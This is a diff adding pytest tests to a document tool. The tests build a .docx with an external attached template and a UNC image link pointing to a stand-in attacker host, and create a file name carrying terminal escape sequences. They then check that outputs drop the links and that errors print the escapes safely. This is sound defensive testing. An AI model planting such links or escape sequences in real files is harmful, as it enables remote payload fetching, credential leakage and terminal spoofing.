@@ -866,3 +866,81 @@ def test_F17_undecryptable_vault_blob_is_quarantined_with_a_recovery_hint(tmp_pa
     assert store.load() == {}  # the next task runs (with an empty memory)
     with pytest.raises(VaultNotFoundError):
         vault.get("tm/ja-en")
+
+
+# -- F18: outputs fetch nothing; escape sequences in names are not printed raw ------------------
+
+EVIL_URL = "http://attacker.example/template.dotm"
+
+
+def hostile_docx(tmp_path: Path) -> Path:
+    """A real corpus .docx given an external attached template and a linked image."""
+    import shutil
+    import zipfile
+
+    source = tmp_path / "hostile.docx"
+    shutil.copy(CORPUS / "docx07_gif_499_faq_short.docx", source)
+    with zipfile.ZipFile(source) as archive:
+        parts = {i.filename: archive.read(i) for i in archive.infolist()}
+    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
+    type_base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    parts["word/_rels/settings.xml.rels"] = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="{rels_ns}"><Relationship Id="rIdT" '
+        f'Type="{type_base}attachedTemplate" Target="{EVIL_URL}" TargetMode="External"/>'
+        "</Relationships>"
+    ).encode()
+    settings = parts["word/settings.xml"].decode("utf-8")
+    at = settings.index(">", settings.index("<w:settings")) + 1
+    parts["word/settings.xml"] = (
+        settings[:at] + '<w:attachedTemplate r:id="rIdT"/>' + settings[at:]
+    ).encode()
+    if 'xmlns:r="' not in settings[:at]:
+        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+            b"<w:settings ",
+            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+            1,
+        )
+    doc_rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
+    doc_rels = doc_rels.replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdImg" Type="{type_base}image" '
+        'Target="\\\\attacker.example\\share\\logo.png" TargetMode="External"/>'
+        f'<Relationship Id="rIdLink" Type="{type_base}hyperlink" '
+        'Target="https://www.digital.go.jp/" TargetMode="External"/></Relationships>',
+    )
+    parts["word/_rels/document.xml.rels"] = doc_rels.encode()
+    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return source
+
+
+def test_F18_outputs_drop_external_template_and_image_links(tmp_path):
+    import zipfile
+
+    from desk_assistant.documents import load
+
+    source = hostile_docx(tmp_path)
+    out = tmp_path / "out.docx"
+    load(source).save_as(out)
+    with zipfile.ZipFile(out) as archive:
+        written = {i.filename: archive.read(i) for i in archive.infolist()}
+    everything = b"".join(written.values())
+    assert EVIL_URL.encode() not in everything and b"attacker.example" not in everything
+    assert b"attachedTemplate" not in written["word/settings.xml"]
+    assert b"https://www.digital.go.jp/" in written["word/_rels/document.xml.rels"]  # kept
+    assert [b.text for b in load(out).blocks] == [b.text for b in load(source).blocks]
+    # The input itself is untouched.
+    with zipfile.ZipFile(source) as archive:
+        assert EVIL_URL.encode() in archive.read("word/_rels/settings.xml.rels")
+
+
+def test_F18_escape_sequences_in_file_names_are_not_printed_raw(tmp_path, capsys):
+    evil = tmp_path / "report\x1b]0;owned\x07\x1b[2J\rfake.docx"
+    evil.write_bytes(b"not a zip")
+    code = main(["extract", str(evil)])
+    err = capsys.readouterr().err
+    assert code == 3
+    assert "\x1b" not in err and "\x07" not in err and "\r" not in err
+    assert "\\x1b" in err
